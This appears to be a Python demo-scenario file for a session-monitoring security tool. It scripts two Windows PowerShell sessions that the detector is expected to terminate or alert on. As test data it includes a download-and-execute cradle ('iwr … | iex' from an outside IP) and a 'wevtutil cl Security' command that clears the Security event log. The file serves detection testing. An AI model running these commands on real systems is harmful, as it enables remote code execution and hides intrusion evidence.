"""Windows sessions in the demo morning: PowerShell transcripts as the SSM agent streams them.

Kept apart from ``scenarios.py`` (data of the Linux morning) and added to it by ``with_windows``:

- ``win-iwr-iex``: on a prod Windows host, ``iwr … | iex`` (code fetched and run): terminated.
- ``win-wevtutil``: on a dev Windows host, cmd.exe started inside PowerShell and ``wevtutil cl
  Security`` typed at its prompt: alerted (the dev policy alerts on high findings; on prod the
  same command would terminate, as clearing the Security log hides what came before).

They are played only when the command watch judges Windows commands (the detector delegating to
``ssm_warden.detect.windows`` for commands the terminal model tagged ``powershell`` or ``cmd``);
otherwise ``with_windows`` leaves them out and says why.
"""

from __future__ import annotations

from typing import Any

from ssm_warden_local.demo.harness import Person
from ssm_warden_local.demo.scenarios import Exit, Expect, Output, Scenario, SlackExpectation, Start, Step

HOSTS: dict[str, dict[str, str]] = {
    "prod-win-1": {"Name": "prod-win-1", "Environment": "prod", "Platform": "windows"},
    "dev-win-1": {"Name": "dev-win-1", "Environment": "dev", "Platform": "windows"},
}

HANNA = Person("hanna", "Admin")
IVAN = Person("ivan", "Developer")

PS_PROMPT = "PS C:\\Windows\\system32> "
CMD_PROMPT = "C:\\Windows\\system32>"


def transcript_header(user: str, pid: int) -> tuple[str, ...]:
    """The block PowerShell writes at the top of the transcript the agent streams (aws-facts §8)."""
    return (
        "**********************",
        "Windows PowerShell transcript start",
        "Start time: 20261201091200",
        f"Username: EC2AMAZ-4D5E6F7\\{user}",
        f"RunAs User: EC2AMAZ-4D5E6F7\\{user}",
        "Machine: EC2AMAZ-4D5E6F7 (Microsoft Windows NT 10.0.20348.0)",
        "Host Application: C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe -NoLogo",
        f"Process ID: {pid}",
        "PSVersion: 5.1.20348.2849",
        "**********************",
    )


IWR_IEX = "iwr http://203.0.113.9/fix-iis.ps1 -UseBasicParsing | iex"

SCENARIOS: list[Scenario] = [
    Scenario(
        "win-iwr-iex",
        "A script fetched and run with iwr | iex on a prod Windows host: terminated",
        Expect(
            aws_status="Terminated",
            ledger_state="terminated",
            ended_by="ssm-warden",
            terminated_for="win-download-cradle",
            audit=("finding", "termination"),
            slack=(
                SlackExpectation("#prod-security", "downloaded content run as code"),
                SlackExpectation("#prod-security", "terminated"),
            ),
        ),
    ),
    Scenario(
        "win-wevtutil",
        "The Security log cleared from cmd.exe inside PowerShell on a dev Windows host: alerted",
        Expect(
            aws_status="Terminated",  # ended with exit; the agent closed the session
            ledger_state="ended",
            end_reason_contains="without TerminateSession",
            audit=("finding", "alert"),
            audit_absent=("termination",),
            slack=(SlackExpectation("#ssm-warden", "event log cleared"),),
        ),
    ),
]

MORNING: list[Step] = [
    Step("12:00", Start("win-iwr-iex", HANNA, "prod-win-1", reason="INC-5120 IIS app pool keeps stopping")),
    Step(
        "12:10",
        Output(
            "win-iwr-iex",
            (
                *transcript_header("ssm-user", 3312),
                f"{PS_PROMPT}Get-Service W3SVC",
                "",
                "Status   Name               DisplayName",
                "------   ----               -----------",
                "Running  W3SVC              World Wide Web Publishing Service",
                "",
            ),
        ),
    ),
    Step("12:40", Output("win-iwr-iex", (f"{PS_PROMPT}{IWR_IEX}",))),
    Step("14:00", Start("win-wevtutil", IVAN, "dev-win-1")),
    Step(
        "14:10",
        Output(
            "win-wevtutil",
            (
                *transcript_header("ssm-user", 4120),
                f"{PS_PROMPT}cmd",
                "Microsoft Windows [Version 10.0.20348.2849]",
                "(c) Microsoft Corporation. All rights reserved.",
                "",
                f"{CMD_PROMPT}wevtutil cl Security",
                "",
                f"{CMD_PROMPT}exit",
                f"{PS_PROMPT}exit",
            ),
        ),
    ),
    Step("14:20", Exit("win-wevtutil")),
]


def windows_judged() -> bool:
    """Whether the command watch's detector judges a command typed at a cmd.exe prompt."""
    from ssm_warden.detect.detector import get_detector

    judge: Any = get_detector().judge_command
    try:
        findings = judge("wevtutil cl Security", shell="cmd")
    except TypeError:  # the detector takes no shell yet: Windows commands are not told apart
        return False
    return any(str(f.rule).startswith("win-") for f in findings)


def with_windows(
    hosts: dict[str, dict[str, str]], morning: list[Step], scenarios: list[Scenario]
) -> tuple[dict[str, dict[str, str]], list[Step], list[Scenario], str | None]:
    """The morning with the Windows sessions added (steps in time order), or as it was and why."""
    if not windows_judged():
        return (
            hosts,
            morning,
            scenarios,
            "Windows sessions left out: the detector does not judge cmd/PowerShell yet",
        )
    steps = sorted([*morning, *MORNING], key=lambda s: s.seconds)
    return {**hosts, **HOSTS}, steps, [*scenarios, *SCENARIOS], None
